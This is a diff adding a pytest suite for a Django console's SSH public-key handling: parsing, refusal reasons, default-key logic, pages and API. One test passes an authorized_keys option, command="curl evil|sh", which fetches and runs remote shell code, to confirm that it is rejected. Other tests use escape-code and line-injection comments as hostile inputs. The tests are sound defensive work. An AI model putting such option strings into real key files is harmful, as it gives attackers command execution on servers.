@@ -1,0 +1,307 @@
+from __future__ import annotations
+
+import base64
+import re
+import struct
+import subprocess
+from pathlib import Path
+
+import pytest
+from cryptography.hazmat.primitives.asymmetric import ec
+from django.core.exceptions import ValidationError
+from django.test import Client
+from django.urls import reverse
+
+from console import services
+from console.models import SshKey
+from console.sshkeys import SshKeyError, parse_public_key
+from tests.console.account_factories import (
+    ecdsa_public_key,
+    ed25519_public_key,
+    make_ssh_key,
+    rsa_public_key,
+)
+
+
+def _blob(*fields: bytes) -> str:
+    return base64.b64encode(b"".join(struct.pack(">I", len(f)) + f for f in fields)).decode()
+
+
+_BAD_POINT = b"\x04" + b"\x01" * 64  # uncompressed point, not on P-256
+
+
+# --- parsing (no database) ----------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("text", "key_type", "bits"),
+    [
+        (ed25519_public_key("alice@laptop"), "ssh-ed25519", 256),
+        (ecdsa_public_key(ec.SECP256R1()), "ecdsa-sha2-nistp256", 256),
+        (ecdsa_public_key(ec.SECP384R1()), "ecdsa-sha2-nistp384", 384),
+        (ecdsa_public_key(ec.SECP521R1()), "ecdsa-sha2-nistp521", 521),
+        (rsa_public_key(2048), "ssh-rsa", 2048),
+        (rsa_public_key(3072), "ssh-rsa", 3072),
+    ],
+)
+def test_supported_keys_parse_with_type_and_length(text: str, key_type: str, bits: int) -> None:
+    key = parse_public_key(text + "\n")
+    assert (key.key_type, key.bits) == (key_type, bits)
+    assert key.openssh == " ".join(text.split()[:2])
+
+
+def test_fingerprint_and_comment_match_ssh_keygen(tmp_path: Path) -> None:
+    path = tmp_path / "id_ed25519"
+    subprocess.run(
+        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "alice@lab", "-f", str(path)],
+        check=True,
+    )
+    listed = subprocess.run(
+        ["ssh-keygen", "-l", "-E", "sha256", "-f", f"{path}.pub"],
+        check=True,
+        capture_output=True,
+        text=True,
+    ).stdout.split()
+    key = parse_public_key(path.with_suffix(".pub").read_text())
+    assert key.fingerprint == listed[1]
+    assert key.comment == "alice@lab"
+
+
+@pytest.mark.parametrize(
+    ("text", "code"),
+    [
+        ("", "empty"),
+        ("   \n ", "empty"),
+        (
+            "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
+            "private_key",
+        ),
+        (
+            "---- BEGIN SSH2 PUBLIC KEY ----\nAAAAB3NzaC1yc2E=\n---- END SSH2 PUBLIC KEY ----",
+            "rfc4716",
+        ),
+        ("ssh-dss AAAAB3NzaC1kc3MAAACBAP== old@box", "unsupported_type"),
+        (
+            "sk-ssh-ed25519@openssh.com AAAAGnNrLXNzaC1lZDI1NTE5QG9wZW5zc2guY29tAAAAI key",
+            "unsupported_type",
+        ),
+        ("ssh-ed25519", "malformed"),
+        ("ssh-ed25519 not-base64!!! me", "malformed"),
+        ("hello world", "unsupported_type"),
+        ("garbage", "malformed"),
+        (f"ssh-ed25519 {_blob(b'ssh-ed25519', b'short')}", "malformed"),
+        (f"ssh-ed25519 {_blob(b'ssh-rsa', b'x' * 32)}", "type_mismatch"),
+        (f"ssh-ed25519 {_blob(b'ssh-ed25519', b'x' * 32, b'trailing')}", "malformed"),
+        (f"ssh-ed25519 {_blob(b'ssh-ed25519')}", "malformed"),
+        (
+            f"ecdsa-sha2-nistp256 {_blob(b'ecdsa-sha2-nistp256', b'nistp256', _BAD_POINT)}",
+            "malformed",
+        ),
+        (
+            f"ecdsa-sha2-nistp256 {_blob(b'ecdsa-sha2-nistp256', b'nistp384', _BAD_POINT)}",
+            "type_mismatch",
+        ),
+        (rsa_public_key(1024), "rsa_too_short"),
+        (ed25519_public_key() + "\n" + ed25519_public_key(), "multiple_lines"),
+        (ed25519_public_key("evil\x1b[31m"), "comment_characters"),
+        (ed25519_public_key("x" * 300), "comment_too_long"),
+        ("ssh-ed25519 " + "A" * 9000, "too_long"),
+    ],
+)
+def test_malformed_or_weak_keys_are_refused_with_a_reason(text: str, code: str) -> None:
+    with pytest.raises(SshKeyError) as excinfo:
+        parse_public_key(text)
+    assert excinfo.value.code == code
+
+
+def test_authorized_keys_options_are_not_accepted() -> None:
+    key = ed25519_public_key()
+    with pytest.raises(SshKeyError):
+        parse_public_key(f'command="curl evil|sh",no-pty {key}')
+
+
+# --- services -----------------------------------------------------------------------------------
+@pytest.mark.django_db
+def test_first_key_becomes_default_and_a_later_one_can_take_over(alice) -> None:  # noqa: ANN001
+    first = make_ssh_key(alice, name="laptop")
+    second = make_ssh_key(alice, name="desktop")
+    assert first.is_default and not second.is_default
+    services.set_default_ssh_key(alice, second)
+    assert list(SshKey.objects.for_owner(alice).defaults()) == [second]
+    assert services.get_default_ssh_key(alice) == second
+
+
+@pytest.mark.django_db
+def test_deleting_the_default_key_promotes_the_newest_remaining(alice) -> None:  # noqa: ANN001
+    default = make_ssh_key(alice, name="a")
+    make_ssh_key(alice, name="b")
+    newest = make_ssh_key(alice, name="c")
+    assert services.delete_ssh_key(alice, default)
+    assert services.get_default_ssh_key(alice) == newest
+    assert not services.delete_ssh_key(alice, default)  # already gone: nothing happens
+
+
+@pytest.mark.django_db
+def test_the_same_key_twice_is_refused_but_another_customer_may_add_it(alice, bob) -> None:  # noqa: ANN001
+    text = ed25519_public_key("shared@lab")
+    services.add_ssh_key(alice, name="lab", public_key=text)
+    with pytest.raises(ValidationError) as excinfo:
+        services.add_ssh_key(alice, name="lab again", public_key=text.replace("shared@lab", "x"))
+    assert "already added this key" in str(excinfo.value)
+    assert services.add_ssh_key(bob, name="lab", public_key=text).owner == bob
+    assert SshKey.objects.for_owner(alice).count() == 1
+
+
+@pytest.mark.django_db
+def test_stored_key_is_canonical_and_its_comment_cannot_inject_a_line(alice) -> None:  # noqa: ANN001
+    text = ed25519_public_key("alice@laptop")
+    key = services.add_ssh_key(alice, name="", public_key="  " + text + "  \n")
+    assert key.name == "alice@laptop"
+    assert key.authorized_keys_line == text
+    assert "\n" not in key.authorized_keys_line
+
+
+# --- pages --------------------------------------------------------------------------------------
+@pytest.mark.django_db
+def test_key_page_adds_lists_with_fingerprint_and_deletes(alice, alice_client: Client) -> None:  # noqa: ANN001
+    text = ed25519_public_key("alice@laptop")
+    response = alice_client.post(
+        reverse("account:ssh-key-list"), {"name": "Laptop", "public_key": text}, follow=True
+    )
+    key = SshKey.objects.get(owner=alice)
+    html = response.content.decode()
+    assert key.fingerprint in html and "alice@laptop" in html and "Laptop" in html
+    response = alice_client.post(reverse("account:ssh-key-delete", args=[key.public_id]))
+    assert response.status_code == 302
+    assert not SshKey.objects.filter(owner=alice).exists()
+
+
+@pytest.mark.django_db
+def test_htmx_add_returns_the_panel_with_the_new_key(alice_client: Client) -> None:
+    response = alice_client.post(
+        reverse("account:ssh-key-list"),
+        {"name": "ci", "public_key": ed25519_public_key()},
+        headers={"HX-Request": "true"},
+    )
+    html = response.content.decode()
+    assert response.status_code == 200
+    assert html.lstrip().startswith('<div id="keys-panel"')
+    assert "<html" not in html and "ci" in html
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("ssh-ed25519 AAAA!!", "not a valid OpenSSH public key"),
+        (rsa_public_key(1024), "at least 2048"),
+        ("ssh-dss AAAAB3NzaC1kc3MAAACBAP== old", "not supported"),
+        (
+            "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----",
+            "PRIVATE key",
+        ),
+    ],
+)
+def test_refused_key_shows_its_reason_and_stores_nothing(
+    alice_client: Client, text: str, message: str
+) -> None:
+    alice_client.post(reverse("set_language"), {"language": "en", "next": "/"})
+    response = alice_client.post(reverse("account:ssh-key-list"), {"name": "x", "public_key": text})
+    assert response.status_code == 200
+    assert message in response.content.decode()
+    assert not SshKey.objects.exists()
+
+
+@pytest.mark.django_db
+def test_duplicate_key_page_message(alice, alice_client: Client) -> None:  # noqa: ANN001
+    alice_client.post(reverse("set_language"), {"language": "en", "next": "/"})
+    text = ed25519_public_key()
+    services.add_ssh_key(alice, name="laptop", public_key=text)
+    response = alice_client.post(reverse("account:ssh-key-list"), {"name": "x", "public_key": text})
+    assert "You have already added this key (as “laptop”)" in response.content.decode()
+    assert SshKey.objects.count() == 1
+
+
+@pytest.mark.django_db
+def test_key_list_page_query_count_does_not_grow_with_keys(
+    alice,
+    alice_client: Client,
+    django_assert_max_num_queries,  # noqa: ANN001
+) -> None:
+    for _ in range(8):
+        make_ssh_key(alice)
+    with django_assert_max_num_queries(6):
+        response = alice_client.get(reverse("account:ssh-key-list"))
+    assert len(re.findall(r'id="key-[0-9a-f]{8}-', response.content.decode())) == 8
+
+
+@pytest.mark.django_db
+def test_default_can_be_changed_on_the_page(alice, alice_client: Client) -> None:  # noqa: ANN001
+    make_ssh_key(alice, name="one")
+    two = make_ssh_key(alice, name="two")
+    alice_client.post(reverse("account:ssh-key-set-default", args=[two.public_id]))
+    assert services.get_default_ssh_key(alice) == two
+
+
+# --- API ----------------------------------------------------------------------------------------
+@pytest.mark.django_db
+def test_api_adds_lists_sets_default_and_deletes(alice, alice_client: Client, bob) -> None:  # noqa: ANN001
+    make_ssh_key(bob)
+    response = alice_client.post(
+        "/api/v1/ssh-keys/",
+        {"name": "api", "public_key": ed25519_public_key("a@b")},
+        content_type="application/json",
+    )
+    assert response.status_code == 201, response.content
+    body = response.json()
+    assert body["fingerprint"].startswith("SHA256:") and body["is_default"] is True
+    second = make_ssh_key(alice)
+    listed = alice_client.get("/api/v1/ssh-keys/").json()
+    assert {k["id"] for k in listed["results"]} == {body["id"], str(second.public_id)}
+    response = alice_client.post(f"/api/v1/ssh-keys/{second.public_id}/set-default/")
+    assert response.json()["is_default"] is True
+    assert alice_client.delete(f"/api/v1/ssh-keys/{body['id']}/").status_code == 204
+    assert SshKey.objects.for_owner(alice).count() == 1
+
+
+@pytest.mark.django_db
+def test_api_refuses_a_malformed_key_with_the_error_body(alice_client: Client) -> None:
+    response = alice_client.post(
+        "/api/v1/ssh-keys/", {"public_key": "ssh-rsa AAAA"}, content_type="application/json"
+    )
+    assert response.status_code == 400
+    body = response.json()
+    assert body["error"] == "invalid" and "public_key" in body["fields"]
+
+
+@pytest.mark.django_db
+def test_api_ignores_owner_fingerprint_and_other_read_only_fields(
+    alice, bob, alice_client: Client
+) -> None:  # noqa: ANN001
+    response = alice_client.post(
+        "/api/v1/ssh-keys/",
+        {
+            "name": "mine",
+            "public_key": ed25519_public_key(),
+            "owner": bob.pk,
+            "fingerprint": "SHA256:forged",
+            "bits": 1,
+            "id": "00000000-0000-0000-0000-000000000001",
+        },
+        content_type="application/json",
+    )
+    assert response.status_code == 201
+    key = SshKey.objects.get()
+    assert key.owner == alice and key.fingerprint != "SHA256:forged" and key.bits == 256
+    assert str(key.public_id) != "00000000-0000-0000-0000-000000000001"
+
+
+@pytest.mark.django_db
+def test_api_list_query_count_does_not_grow_with_keys(
+    alice,
+    alice_client: Client,
+    django_assert_max_num_queries,  # noqa: ANN001
+) -> None:
+    for _ in range(8):
+        make_ssh_key(alice)
+    with django_assert_max_num_queries(5):
+        response = alice_client.get("/api/v1/ssh-keys/")
+    assert response.json()["count"] == 8
